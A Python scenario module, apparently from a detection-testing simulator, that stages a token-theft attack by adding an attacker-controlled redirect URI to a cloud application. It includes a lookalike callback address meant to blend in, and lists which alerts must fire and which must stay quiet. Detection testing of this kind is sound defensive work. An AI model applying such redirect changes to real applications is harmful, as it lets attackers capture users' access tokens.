"""Tokens may be sent to the attacker's host."""

from typing import Final

from sekimori.sim.attack import Attacker
from sekimori.sim.plan import Plan, Step

ID: Final = "redirect_uri_added"
TITLE: Final = {"ja": "リダイレクトURIを追加", "en": "Add a redirect URI"}
STORY: Final = {
    "ja": "トークンの送り先に攻撃者のサーバーを足す。",
    "en": "The attacker's server is added to where tokens are sent.",
}
ATTACK: Final = ("T1528",)
MUST_FIRE: Final = ("redirect_uri_added",)
MUST_STAY_QUIET: Final = (
    "redirect_uri_weak",
    "service_principal_sign_in",
    "permission_requested",
    "federated_credential_added",
    "client_credential_added",
)
TELLING: Final = ("AppAddress",)
PLAN: Final = Plan(
    permissions=("Application.ReadWrite.All",),
    steps=(
        Step(
            method="PATCH",
            path="/applications/{object_id}",
            body={"web": {"redirectUris": ["https://drill.example.com/callback"]}},
        ),
    ),
    undo=(Step(method="PATCH", path="/applications/{object_id}", body={"web": {"redirectUris": []}}),),
)


async def detonate(attacker: Attacker) -> None:
    """Add an address that is encrypted and looks ordinary."""
    there = (await attacker.manage("GET"))["web"]["redirectUris"]
    await attacker.manage("PATCH", "", {"web": {"redirectUris": [*there, "https://login.northwind.example/callback"]}})
